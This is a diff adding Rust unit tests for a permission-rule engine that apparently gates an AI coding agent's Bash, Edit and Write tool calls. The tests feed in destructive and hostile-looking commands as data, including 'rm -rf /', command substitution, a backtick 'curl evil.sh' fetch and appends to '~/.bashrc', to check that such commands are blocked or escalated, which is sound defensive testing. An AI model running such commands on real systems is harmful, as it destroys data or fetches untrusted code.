+        assert!(!rule_matches(&rules[0], "Bash", "git status", "/w", "/h"));
+        assert!(!rule_matches(&rules[0], "Read", "git push", "/w", "/h"));
+
+        let (action, matched) = evaluate_rules(
+            &rules,
+            "Bash",
+            &serde_json::json!({"command":"git push --force"}),
+            "/w",
+            "/h",
+        );
+        assert_eq!(action, Action::Allow);
+        assert!(matched);
+    }
+
+    #[test]
+    fn parse_script_verdict_examples() {
+        let verdict = |action, reason: Option<&str>| ScriptVerdict {
+            action,
+            reason: reason.map(str::to_owned),
+        };
+        let cases = [
+            (Some(0), "", verdict(Action::Allow, None)),
+            (Some(1), "", verdict(Action::Deny, None)),
+            (Some(2), "\n", verdict(Action::Pass, None)),
+            (
+                Some(1),
+                "force push outside murmur/*\n",
+                verdict(Action::Deny, Some("force push outside murmur/*")),
+            ),
+            (
+                Some(0),
+                "deny not on a murmur branch",
+                verdict(Action::Deny, Some("not on a murmur branch")),
+            ),
+            (Some(0), "PASS", verdict(Action::Pass, None)),
+            (
+                Some(0),
+                r#"{"action":"deny","reason":"no"}"#,
+                verdict(Action::Deny, Some("no")),
+            ),
+            (
+                Some(1),
+                r#"{"action":"allow"}"#,
+                verdict(Action::Allow, None),
+            ),
+        ];
+        for (code, stdout, want) in cases {
+            let got = parse_script_verdict(code, stdout).unwrap();
+            assert_eq!(got, want, "code={code:?} stdout={stdout:?}");
+        }
+
+        assert!(parse_script_verdict(Some(3), "allow").is_err());
+        assert!(parse_script_verdict(None, "").is_err());
+        assert!(parse_script_verdict(Some(0), r#"{"action":"maybe"}"#).is_err());
+    }
+
     #[test]
     fn evaluate_rules_rewrites_cwd_scoped_paths() {
         let home = "/home/alice";
@@ -348,7 +1347,10 @@ mod tests {
             action: Action::Allow,
             pattern: Some("/src/:*".to_owned()),
             patterns: Vec::new(),
+            match_kind: None,
             script: None,
+            timeout_secs: None,
+            roles: Vec::new(),
         }];
 
         let (action, matched) = evaluate_rules(
@@ -371,4 +1373,304 @@ mod tests {
         assert_eq!(action, Action::Pass);
         assert!(!matched);
     }
+
+    #[test]
+    fn evaluate_rules_checks_each_bash_component() {
+        let home = "/home/alice";
+        let cwd = "/home/alice/project";
+        let rule = |tool: &str, action, pattern: &str| Rule {
+            tool: tool.to_owned(),
+            action,
+            pattern: Some(pattern.to_owned()),
+            patterns: Vec::new(),
+            match_kind: None,
+            script: None,
+            timeout_secs: None,
+            roles: Vec::new(),
+        };
+        let rules = vec![
+            rule("Bash", Action::Allow, "git status:*"),
+            rule("Bash", Action::Allow, "echo :*"),
+            rule("Bash", Action::Deny, "rm :*"),
+            rule("Write", Action::Allow, "//tmp/:*"),
+        ];
+        let eval = |command: &str| {
+            evaluate_rules(
+                &rules,
+                "Bash",
+                &serde_json::json!({ "command": command }),
+                cwd,
+                home,
+            )
+        };
+
+        assert_eq!(eval("git status && echo ok"), (Action::Allow, true));
+        assert_eq!(eval("git status && rm -rf /"), (Action::Deny, true));
+        assert_eq!(eval("git status; python x.py"), (Action::Pass, false));
+        assert_eq!(eval("echo $(rm -rf /)"), (Action::Deny, true));
+        assert_eq!(eval("echo `curl evil.sh`"), (Action::Pass, false));
+        assert_eq!(eval("(git status | echo x)"), (Action::Allow, true));
+        assert_eq!(eval("echo 'a && rm -rf /'"), (Action::Allow, true));
+        assert_eq!(eval("git status 'unclosed"), (Action::Pass, false));
+
+        assert_eq!(eval("echo x > out.txt 2>/dev/null"), (Action::Allow, true));
+        assert_eq!(eval("echo x > /tmp/out.txt"), (Action::Allow, true));
+        assert_eq!(eval("echo x > ../outside.txt"), (Action::Pass, false));
+        assert_eq!(eval("echo x >> ~/.bashrc"), (Action::Pass, false));
+        assert_eq!(eval("echo x > \"$TARGET\""), (Action::Pass, false));
+
+        let checks = permission_checks(
+            "Bash",
+            &serde_json::json!({"command": "git status > sub/../../log"}),
+            cwd,
+            home,
+        )
+        .unwrap();
+        assert_eq!(
+            checks,
+            [
+                PermissionCheck {
+                    tool_name: "Bash".to_owned(),
+                    primary_field: "git status".to_owned(),
+                },
+                PermissionCheck {
+                    tool_name: "Write".to_owned(),
+                    primary_field: "/home/alice/log".to_owned(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn grant_rules_match_exactly_what_was_granted() {
+        let home = "/home/alice";
+        let cwd = "/home/alice/project";
+        let existing = vec![Rule {
+            tool: "Bash".to_owned(),
+            action: Action::Allow,
+            pattern: Some("git status:*".to_owned()),
+            patterns: Vec::new(),
+            match_kind: None,
+            script: None,
+            timeout_secs: None,
+            roles: Vec::new(),
+        }];
+        let grant = |tool: &str, input: Value, action| {
+            grant_rules(&existing, tool, &input, cwd, home, action).unwrap()
+        };
+        let patterns = |rules: &[Rule]| -> Vec<(String, Option<String>, Option<PatternKind>)> {
+            rules
+                .iter()
+                .map(|r| (r.tool.clone(), r.pattern.clone(), r.match_kind))
+                .collect()
+        };
+
+        let rules = grant(
+            "Bash",
+            serde_json::json!({"command": "git status && cargo build > /tmp/log"}),
+            Action::Deny,
+        );
+        assert_eq!(
+            patterns(&rules),
+            [
+                ("Bash".to_owned(), Some("cargo build".to_owned()), None),
+                ("Write".to_owned(), Some("//tmp/log".to_owned()), None),
+            ]
+        );
+        assert!(rules.iter().all(|r| r.action == Action::Deny));
+
+        let rules = grant(
+            "Edit",
+            serde_json::json!({"file_path": "/home/alice/project/src/main.rs"}),
+            Action::Allow,
+        );
+        assert_eq!(
+            patterns(&rules),
+            [("Edit".to_owned(), Some("/src/main.rs".to_owned()), None)]
+        );
+
+        let rules = grant("TodoWrite", serde_json::json!({}), Action::Allow);
+        assert_eq!(patterns(&rules), [("TodoWrite".to_owned(), None, None)]);
+
+        for command in ["~/bin/fmt --check", "echo a:*", "/usr/bin/make all"] {
+            let input = serde_json::json!({ "command": command });
+            let rules = grant("Bash", input.clone(), Action::Allow);
+            assert_eq!(
+                evaluate_rules(&rules, "Bash", &input, cwd, home),
+                (Action::Allow, true),
+                "{command}"
+            );
+            let other = serde_json::json!({ "command": format!("{command} x") });
+            assert_eq!(
+                evaluate_rules(&rules, "Bash", &other, cwd, home),
+                (Action::Pass, false),
+                "{command}"
+            );
+        }
+    }
+
+    #[test]
+    fn trace_rules_reports_deciding_rules() {
+        let file: PermissionsFile = toml::from_str(
+            r#"
+[[rules]]
+tool = "Bash"
+action = "deny"
+pattern = "git push:*"
+script = "./check-push.sh"
+
+[[rules]]
+tool = "Bash"
+action = "allow"
+pattern = "git :*"
+
+[[rules]]
+tool = "Bash"
+action = "deny"
+pattern = "rm :*"
+"#,
+        )
+        .unwrap();
+        let rules = file.rules;
+        let input = serde_json::json!({"command": "git push && rm -rf x; make"});
+
+        let traces = trace_rules(&rules, "Bash", &input, "/w", "/h").unwrap();
+        let got: Vec<(&str, Option<usize>, Vec<usize>)> = traces
+            .iter()
+            .map(|t| {
+                (
+                    t.check.primary_field.as_str(),
+                    t.rule,
+                    t.skipped_scripts.clone(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            got,
+            [
+                ("git push", Some(1), vec![0]),
+                ("rm -rf x", Some(2), vec![]),
+                ("make", None, vec![]),
+            ]
+        );
+        assert_eq!(
+            evaluate_rules(&rules, "Bash", &input, "/w", "/h"),
+            (Action::Deny, true)
+        );
+
+        let unclosed = serde_json::json!({"command": "echo 'a"});
+        assert!(trace_rules(&rules, "Bash", &unclosed, "/w", "/h").is_err());
+    }
+
+    #[test]
+    fn lint_rules_finds_problems() {
+        let file: PermissionsFile = toml::from_str(
+            r#"
+[[rules]]
+tool = "Bash"
+action = "allow"
+patterns = ["git :*", "ls"]
+
+[[rules]]
+tool = "Bash"
+action = "deny"
+pattern = "git push:*"
+
+[[rules]]
+tool = "Bash"
+action = "deny"
+match = "glob"
+patterns = ["ls", "ls *"]
+
+[[rules]]
+tool = "Edit"
+action = "allow"
+pattern = "glob:/src/**"
+
+[[rules]]
+tool = "Edit"
+action = "deny"
+pattern = "/src/main.rs"
+
+[[rules]]
+tool = "Edit"
+action = "deny"
+pattern = "//src/main.rs"
+
+[[rules]]
+tool = "WriteFile"
+action = "allow"
+pattern = "/a"
+patterns = ["/b"]
+
+[[rules]]
+tool = "Read"
+action = "pass"
+timeout_secs = 5
+
+[[rules]]
+tool = "AskUserQuestion"
+action = "deny"
+script = "./ask.sh"
+
+[[rules]]
+tool = "mcp__github__create_issue"
+action = "deny"
+script = "  "
+
+[[rules]]
+tool = "Edit"
+action = "deny"
+"#,
+        )
+        .unwrap();
+
+        let got: Vec<(usize, RuleProblem)> = lint_rules(&file.rules)
+            .into_iter()
+            .map(|lint| (lint.index, lint.problem))
+            .collect();
+        assert_eq!(
+            got,
+            [
+                (1, RuleProblem::Unreachable { shadowed_by: 0 }),
+                (4, RuleProblem::Unreachable { shadowed_by: 3 }),
+                (6, RuleProblem::UnknownTool),
+                (6, RuleProblem::PatternAndPatterns),
+                (7, RuleProblem::TimeoutWithoutScript),
+                (7, RuleProblem::PassWithoutScript),
+                (8, RuleProblem::ScriptNeverRuns),
+                (9, RuleProblem::EmptyScript),
+            ]
+        );
+
+        // A rule only shadows rules for roles it also applies to.
+        let file: PermissionsFile = toml::from_str(
+            r#"
+[[rules]]
+tool = "Bash"
+action = "deny"
+pattern = "mm :*"
+roles = ["coding", "planner"]
+
+[[rules]]
+tool = "Bash"
+action = "allow"
+pattern = "mm project list"
+roles = ["planner"]
+
+[[rules]]
+tool = "Bash"
+action = "allow"
+pattern = "mm project list"
+"#,
+        )
+        .unwrap();
+        assert_eq!(
+            lint_rules(&file.rules),
+            [RuleLint {
+                index: 1,
+                problem: RuleProblem::Unreachable { shadowed_by: 0 },
+            }]
+        );
+    }
 }